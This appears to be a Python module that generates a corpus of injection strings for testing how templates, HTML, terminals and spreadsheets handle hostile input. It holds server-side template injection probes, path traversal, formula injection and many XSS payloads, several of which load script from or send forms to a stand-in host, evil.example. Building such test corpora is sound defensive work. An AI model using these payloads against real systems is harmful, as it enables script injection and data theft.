"""Texts that attack whatever shows them: template languages, markup, and what terminals and spreadsheets obey.

It must not hold a test. All of them fit on one line and hold no character that the reader refuses.
"""

_SUMS = (
    "7*7",
    "config.items()",
    "self.__init__.__globals__",
    "''.__class__.__mro__[1].__subclasses__()",
    "request.environ['x']",
)
_FRAMES = (
    "{{{{{}}}}}",
    "{{% {} %}}",
    "{{# {} #}}",
    "${{{}}}",
    "#{{{}}}",
    "<%= {} %>",
    "<%- {} %>",
    "<? {} ?>",
    "*{{{}}}",
    "@({})",
    "[[{}]]",
    "$({})",
    "`{}`",
    "{{{{= {} }}}}",
    "{{! {} !}}",
    "$[{}]",
    "~{{{}}}",
    "((({})))",
)
_ODD_TEMPLATES = (
    "{thought.__class__}",
    "{__class__}",
    "{0}",
    "{}",
    "{{}}",
    "{thought!r}",
    "{thought:>9999999}",
    "{thought[0]}",
    "{thought.__init__.__globals__[os]}",
    "%(thought)s",
    "%n%s%x",
    "%s" * 40,
    "{%",
    "%}",
    "{{",
    "}}",
    "{#",
    "#}",
    "{% raw %}",
    "{% include 'x' %}",
    "{{ ''|attr('x') }}",
    "os.abort",
    "this.s",
    "__import__('os')",
    "eval(1)",
    "\\x41\\u0041\\N{DIGIT ONE}",
    "../../etc/passwd",
    "=1+1",
    "@SUM(1)",
    "yes",
    "~",
    "1:30",
)
TEMPLATES: tuple[str, ...] = (*(frame.format(word) for frame in _FRAMES for word in _SUMS), *_ODD_TEMPLATES)

_RUN = "window.owned=1"
_TAGS = (
    "img",
    "svg",
    "body",
    "video",
    "audio",
    "iframe",
    "input",
    "details",
    "marquee",
    "object",
    "embed",
    "math",
    "a",
    "style",
    "link",
    "form",
    "button",
    "select",
    "textarea",
    "table",
    "x",
)
_HANDLERS = ("onerror", "onload", "onfocus autofocus", "onmouseover", "ontoggle open", "onanimationstart")
_SCRIPTS = (
    f"<script>{_RUN}</script>",
    f"</script><script>{_RUN}</script>",
    f"<ScRiPt>{_RUN}</sCrIpT>",
    f"<script/x>{_RUN}</script>",
    f"<<script>{_RUN}//<</script>",
    f"<script>{_RUN}",
    "<script src=//evil.example/x.js>",
    f"<svg><script>{_RUN}</script></svg>",
    f"<math><mi><script>{_RUN}</script>",
    f"<noscript><p title='</noscript><img src=x onerror={_RUN}>'>",
    f"</title><script>{_RUN}</script>",
    f"</textarea><script>{_RUN}</script>",
    f"</style><script>{_RUN}</script>",
    f"--><script>{_RUN}</script>",
    f"<!--><script>{_RUN}</script>-->",
    f"<![CDATA[<script>{_RUN}</script>]]>",
    f'"><script>{_RUN}</script>',
    f"'><script>{_RUN}</script>",
    f"`><script>{_RUN}</script>",
)
_ATTRIBUTES = (
    f'" onmouseover="{_RUN}',
    f"' onmouseover='{_RUN}",
    f'" autofocus onfocus="{_RUN}',
    f"x onload={_RUN}",
    f'" style="animation-name:x" onanimationstart="{_RUN}',
    '" hx-get="//evil.example',
    '" hx-on:load="window.owned=1',
    '" data-hx-get="//evil.example" hx-trigger="load',
    '" formaction="javascript:window.owned=1',
    '"></form><form action=//evil.example>',
)
_ADDRESSES = (
    "javascript:window.owned=1",
    "JaVaScRiPt:window.owned=1",
    "java&#09;script:window.owned=1",
    "data:text/html,<script>window.owned=1</script>",
    "vbscript:msgbox(1)",
    "//evil.example/x",
    "https://evil.example/x",
)
_CARRIERS = (
    '<a href="{}">x</a>',
    '<img src="{}">',
    '<iframe src="{}"></iframe>',
    '<form action="{}"><button>x</button></form>',
    '<meta http-equiv=refresh content="0;url={}">',
    '<link rel=stylesheet href="{}">',
    '<base href="{}">',
    '<object data="{}"></object>',
    '<svg><use href="{}"/></svg>',
    "[x]({})",
    "![x]({})",
    "<{}>",
)
_ODD_MARKUP = (
    "<style>@import '//evil.example/x.css'</style>",
    '<div style="background:url(//evil.example/x)">',
    "<b>bold",
    "</p></div></main>",
    "<!--",
    "-->",
    "<!DOCTYPE x>",
    "<plaintext>",
    "<xmp>",
    "&lt;script&gt;",
    "&#60;script&#62;window.owned=1&#60;/script&#62;",
    "&amp;&quot;&#x27;",
    "<template><script>window.owned=1</script></template>",
    "<portal src=//evil.example>",
    "<frameset onload=window.owned=1>",
    "<isindex action=javascript:window.owned=1>",
    "<p id=content><p id=main>",
    "<input name=csrf value=x>",
    "*bold* _x_ # x",
    "| a | b |",
)
MARKUP: tuple[str, ...] = (
    *_SCRIPTS,
    *_ATTRIBUTES,
    *(
        f"<{tag} src=x {handler.partition(' ')[0]}={_RUN} {handler.partition(' ')[2]}>"
        for tag in _TAGS
        for handler in _HANDLERS
    ),
    *(carrier.format(address) for carrier in _CARRIERS for address in _ADDRESSES),
    *_ODD_MARKUP,
)


def quoted(text: str) -> str:
    """The text as YAML in single quotes."""
    return "'" + text.replace("'", "''") + "'"
